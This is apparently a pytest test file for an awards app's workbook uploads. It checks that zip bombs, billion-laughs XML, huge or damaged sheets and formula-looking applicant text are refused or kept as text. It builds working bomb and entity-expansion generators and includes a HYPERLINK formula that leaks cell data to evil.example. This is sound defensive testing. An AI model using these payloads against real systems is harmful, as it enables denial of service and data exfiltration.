"""Spreadsheets from outside: a workbook that unpacks into gigabytes, sheets a million rows long, hostile or broken
XML inside the archive. Each upload of a workbook (the nominations import, the judge list, a judge's offline score
sheet) refuses them with the one clear "could not be read" message, before parsing where the archive gives it away,
and changes nothing. And the judge's offline score sheet keeps applicants' text that looks like a formula a text.
"""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from awards_app import spreadsheets
from awards_app.extensions import db
from awards_app.models import AuditEvent, Nomination, User
from awards_app.spreadsheets import Column, SheetSpec
from tests.conftest import count
from tests.functional.judging_helpers import assign, criteria, eligible, judging_round

UNREADABLE = "The workbook could not be read"
SPECS = [SheetSpec("Judges", (Column("Name"), Column("E-mail")))]
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]>"
)


def _workbook(sheet_name: str = "Judges", rows=(("Name", "E-mail"), ("Ana", "ana@x.org"))) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = sheet_name
    for row in rows:
        sheet.append(list(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _with_part(data: bytes, name: str, content: bytes) -> bytes:
    """The same archive with one part replaced (or added), packed as tightly as zip allows."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, content if info.filename == name else source.read(info.filename))
        if name not in source.namelist():
            archive.writestr(name, content)
    return out.getvalue()


def _sheet_part(data: bytes) -> str:
    """The last sheet of the workbook: a sheet the upload reads (the first may be the instructions)."""
    names = [n for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
    return max(names, key=lambda n: int(re.search(r"\d+", n).group()))


def _sheet_xml(data: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read(_sheet_part(data)).decode()


def shared_strings_bomb(data: bytes, megabytes: int = 60) -> bytes:
    """Tens of megabytes of shared strings packed into a few dozen kilobytes (1 GB in the attack; smaller here)."""
    text = f'<?xml version="1.0"?><sst xmlns="{_MAIN}"><si><t>'.encode() + b"A" * (megabytes << 20) + b"</t></si></sst>"
    return _with_part(data, "xl/sharedStrings.xml", text)


def dense_bomb(data: bytes) -> bytes:
    """Under the size limit, but packed a thousand to one: nothing a person saves looks like that."""
    sheet = _sheet_xml(data).replace("</sheetData>", "</sheetData>" + "<!--" + " " * (5 << 20) + "-->")
    return _with_part(data, _sheet_part(data), sheet.encode())


def million_empty_rows(data: bytes) -> bytes:
    rows = "".join(f'<row r="{n}"/>' for n in range(3, 1_000_001))
    return _with_part(data, _sheet_part(data), _sheet_xml(data).replace("</sheetData>", rows + "</sheetData>").encode())


def far_row_with_a_lying_size(data: bytes) -> bytes:
    sheet = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', _sheet_xml(data))
    sheet = sheet.replace(
        "</sheetData>", '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    )
    return _with_part(data, _sheet_part(data), sheet.encode())


def billion_laughs(data: bytes) -> bytes:
    body = _sheet_xml(data).split("?>", 1)[-1]
    body = re.sub(
        r"<sheetData>.*</sheetData>",
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData>',
        body,
        flags=re.S,
    )
    return _with_part(data, _sheet_part(data), (_LAUGHS + body).encode())


def broken_sheet(data: bytes) -> bytes:
    return _with_part(data, _sheet_part(data), _sheet_xml(data).encode()[:-60])


def broken_workbook_part(data: bytes) -> bytes:
    return _with_part(data, "xl/workbook.xml", b"<workbook><sheets><sheet name=")


def laughs_in_the_workbook_part(data: bytes) -> bytes:
    return _with_part(data, "xl/workbook.xml", (_LAUGHS + f'<workbook xmlns="{_MAIN}">&lol9;</workbook>').encode())


def damaged_stream(data: bytes) -> bytes:
    """A part whose compressed bytes were overwritten: the archive's index is fine, its contents are not."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    info = archive.getinfo(_sheet_part(data))
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    damaged = bytearray(data)
    damaged[start + 10 : start + 40] = b"\xff" * 30
    return bytes(damaged)


HOSTILE = {
    "shared strings bomb": shared_strings_bomb,
    "packed a thousand to one": dense_bomb,
    "billion laughs in a sheet": billion_laughs,
    "billion laughs in the workbook part": laughs_in_the_workbook_part,
    "broken sheet XML": broken_sheet,
    "broken workbook XML": broken_workbook_part,
    "damaged compressed stream": damaged_stream,
}


@pytest.mark.parametrize("make", HOSTILE.values(), ids=HOSTILE.keys())
def test_the_reader_refuses_a_hostile_or_broken_workbook_with_the_clear_message(make):
    with pytest.raises(spreadsheets.UnreadableFile, match=UNREADABLE):
        spreadsheets.read_workbook(make(_workbook()), SPECS)


@pytest.mark.parametrize("make", [shared_strings_bomb, dense_bomb], ids=["too large", "too dense"])
def test_a_bomb_is_refused_from_the_archive_s_index_without_parsing_anything(make, monkeypatch):
    bomb = make(_workbook())
    assert len(bomb) < 200_000  # a small upload

    def never(*args, **kwargs):
        raise AssertionError("the workbook was opened")

    monkeypatch.setattr(spreadsheets, "load_workbook", never)
    with pytest.raises(spreadsheets.UnreadableFile, match="unpack into more than 50 MB"):
        spreadsheets.read_workbook(bomb, SPECS)


def test_the_size_limit_is_the_caller_s():
    data = _workbook()
    with pytest.raises(spreadsheets.UnreadableFile, match="more than 0 MB"):
        spreadsheets.read_workbook(data, SPECS, max_unpacked=1000)
    rows, problems = spreadsheets.read_workbook(data, SPECS, max_unpacked=1 << 20)
    assert ([r.values for r in rows], problems) == ([{"Name": "Ana", "E-mail": "ana@x.org"}], [])


def test_a_million_empty_rows_are_not_walked(monkeypatch):
    data = million_empty_rows(_workbook())
    walked = []
    original = spreadsheets._rows_of

    def counting(*args, **kwargs):
        first, rows = original(*args, **kwargs)

        def counted():
            for row in rows:
                walked.append(1)
                yield row

        return first, counted()

    monkeypatch.setattr(spreadsheets, "_rows_of", counting)
    rows, problems = spreadsheets.read_workbook(data, SPECS, max_rows=100)
    assert [r.values["Name"] for r in rows] == ["Ana"] and problems == []
    assert len(walked) <= 2 * (2 * 100 + 1)  # both passes stop at row 201, not at row 1,000,000


def test_a_sheet_that_goes_on_past_the_rows_read_is_named_not_cut_silently():
    rows, problems = spreadsheets.read_workbook(far_row_with_a_lying_size(_workbook()), SPECS, max_rows=100)
    assert rows == []
    assert [(p.sheet, p.row) for p in problems] == [("Judges", 202)]
    assert "goes on past row 201" in problems[0].message


def test_the_workbook_is_opened_once(monkeypatch):
    opened = []
    original = spreadsheets.load_workbook

    def counting(*args, **kwargs):
        opened.append(1)
        return original(*args, **kwargs)

    monkeypatch.setattr(spreadsheets, "load_workbook", counting)
    rows, _problems = spreadsheets.read_workbook(_workbook(), SPECS)
    assert len(rows) == 1 and opened == [1]


def test_an_honest_template_is_far_from_every_limit(app, world):
    from awards_app.services.imports import judges as judge_imports
    from awards_app.services.imports import nominations as nomination_imports

    for template in (judge_imports.judges_template(), nomination_imports.nominations_template(world.edition)):
        archive = zipfile.ZipFile(io.BytesIO(template))
        unpacked = sum(i.file_size for i in archive.infolist())
        assert unpacked < spreadsheets.MAX_UNPACKED_BYTES / 50
        for info in archive.infolist():
            assert (
                info.file_size < spreadsheets.MAX_COMPRESSION_RATIO * max(info.compress_size, 1)
                or info.file_size < 1 << 20
            )


# --- at every upload ---------------------------------------------------------------------------------------------


def _upload(client, url: str, data: bytes):
    return client.post(url, data={"workbook": (io.BytesIO(data), "filled.xlsx")}, content_type="multipart/form-data")


@pytest.fixture
def offline_round(world):
    round_ = judging_round(world)
    criteria(round_, world.project)
    assign(round_, eligible(world), world.judge, declared=True)
    return round_


@pytest.mark.parametrize("make", HOSTILE.values(), ids=HOSTILE.keys())
def test_every_workbook_upload_refuses_it_and_changes_nothing(app, world, offline_round, make):
    from awards_app.services.imports import judges as judge_imports
    from awards_app.services.imports import nominations as nomination_imports
    from awards_app.services.imports import scores as score_imports

    uploads = [
        (
            world.secretariat,
            f"/secretariat/editions/{world.edition.id}/import",
            nomination_imports.nominations_template(world.edition),
        ),
        (world.secretariat, "/secretariat/people/import", judge_imports.judges_template()),
        (
            world.judge,
            f"/judging/rounds/{offline_round.id}/offline",
            score_imports.score_workbook(world.judge, offline_round),
        ),
    ]
    before = (count(Nomination), count(User), count(AuditEvent))
    for person, url, template in uploads:
        client = app.test_client()
        client.post("/auth/login", data={"email": person.email, "password": "correct-horse-battery"})
        response = _upload(client, url, make(template))
        assert response.status_code == 200, url
        assert UNREADABLE in response.get_data(as_text=True), url
    db.session.expire_all()
    assert (count(Nomination), count(User), count(AuditEvent)) == before


# --- the offline score sheet keeps formula-looking text a text -----------------------------------------------------


def test_the_offline_score_sheet_keeps_an_applicant_s_formula_as_text(app, world, db):
    from awards_app.services.imports import scores as score_imports

    round_ = judging_round(world)
    criteria(round_, world.project)
    hostile = eligible(world, '=HYPERLINK("http://evil.example/?"&A1,"Open the evidence")')
    assign(round_, hostile, world.judge, declared=True)
    book = load_workbook(io.BytesIO(score_imports.score_workbook(world.judge, round_)))
    sheet = book[book.sheetnames[1]]
    titles = [cell for cell in sheet["B"] if cell.value and str(cell.value).startswith("=")]
    assert [c.value for c in titles] == [hostile.title]
    assert all(c.data_type == "s" and c.quotePrefix for c in titles)
    # What the file holds: a string cell with Excel's quote prefix, never a <f> formula element.
    raw = (
        zipfile.ZipFile(io.BytesIO(score_imports.score_workbook(world.judge, round_)))
        .read("xl/worksheets/sheet2.xml")
        .decode()
    )
    assert "<f>" not in raw
